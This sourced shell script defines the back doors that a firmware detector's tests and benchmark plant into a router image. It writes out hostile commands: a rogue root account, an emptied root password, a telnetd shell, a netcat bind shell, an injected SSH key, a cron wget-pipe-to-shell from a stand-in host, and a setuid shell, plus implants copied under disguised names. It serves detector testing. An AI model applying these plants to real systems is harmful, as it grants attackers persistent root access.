# plants.sh - sourced: the back doors the e2e tests plant into the router-style
# image (scripts/make-router-image --plant), shared with bench/accuracy.sh so
# the accuracy set measures exactly what the tests assert.
#   access_plants   issue 3's eight access back doors, "FILE|SHELL CMD" (CMD runs
#                   in the root filesystem; FILE is the planted file)
#   implant_plant DIR  the shell command planting tests/implants built by
#                   build.sh into DIR (mipsel); implant_plant_files lists
#                   "RULE:FILE" for each (RULE without "capability." when it is one)
access_plants=(
  "/etc/passwd|echo 'toor:\$1\$Qx7\$Sg0Yw3b8Jf3kqWkqQmH7y/:0:0:toor:/root:/bin/sh' >> etc/passwd"
  "/etc/passwd|sed -i 's/^root:\*:/root::/' etc/passwd"
  "/etc/inittab|echo '::respawn:/usr/sbin/telnetd -F -p 2323 -l /bin/sh' >> etc/inittab"
  "/etc/init.d/S99netd|mkdir -p etc/init.d && printf '#!/bin/sh\nnc -l -p 4444 -e /bin/sh &\n' > etc/init.d/S99netd && chmod 755 etc/init.d/S99netd"
  "/.ssh/authorized_keys|mkdir -p .ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHmB0wZ3R0c3ZlbmRvcmtleWZvcnRlc3RpbmdvbmwAAAA vendor@factory' > .ssh/authorized_keys"
  "/etc/ssl/private/device.key|mkdir -p etc/ssl/private && openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 2>/dev/null | openssl rsa -traditional 2>/dev/null > etc/ssl/private/device.key"
  "/etc/crontabs/root|mkdir -p etc/crontabs && echo '*/10 * * * * wget -qO- http://203.0.113.5/u.sh | sh' > etc/crontabs/root"
  "/lib/.x/sh|mkdir -p lib/.x && cp bin/busybox lib/.x/sh && chmod 4755 lib/.x/sh"
)
implant_plant_names="bindshell revshell pkttrigger keylogger bruteforce rawtrigger streamc2"
implant_plant_files="bind-shell:/usr/sbin/dropbear-helper reverse-shell:/usr/lib/libupnp-agent
packet-trigger:/sbin/kthreadd-helper keylogger:/usr/bin/inputd credential-list:/bin/telnet-check
raw-socket-trigger:/usr/sbin/icmpd crypto.rc4-hidden:/usr/bin/cloud-sync"
implant_plant() {
  echo "cp '$1/mipsel-static/bindshell' usr/sbin/dropbear-helper; \
cp '$1/mipsel-dynamic/revshell' usr/lib/libupnp-agent; \
cp '$1/mipsel-static/pkttrigger' sbin/kthreadd-helper; \
cp '$1/mipsel-dynamic/keylogger' usr/bin/inputd; \
cp '$1/mipsel-static/bruteforce' bin/telnet-check; \
cp '$1/mipsel-static/rawtrigger' usr/sbin/icmpd; \
cp '$1/mipsel-static/streamc2' usr/bin/cloud-sync"
}
